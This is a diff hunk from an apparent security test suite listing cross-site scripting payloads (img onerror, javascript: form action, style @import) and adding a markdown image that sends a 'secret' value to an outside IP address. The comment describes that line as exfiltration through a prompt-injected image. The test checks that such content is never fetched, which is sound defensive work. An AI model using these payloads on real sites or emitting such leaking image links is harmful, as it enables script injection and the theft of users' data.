@@ -32,6 +32,9 @@ PAYLOADS: list[str] = [
     '<form action="javascript:alert(25)"><button>XSS25</button></form>',
     '"><img src=x onerror=alert(26)>XSS26',
     "<style>@import 'javascript:alert(27)';</style>XSS27",
+    # Exfiltration by a prompt-injected image: it must not be fetched (the session fails on
+    # any request to an outside host).
+    "![XSS28](http://192.0.2.1/leak.png?q=secret)",
 ]
 
 
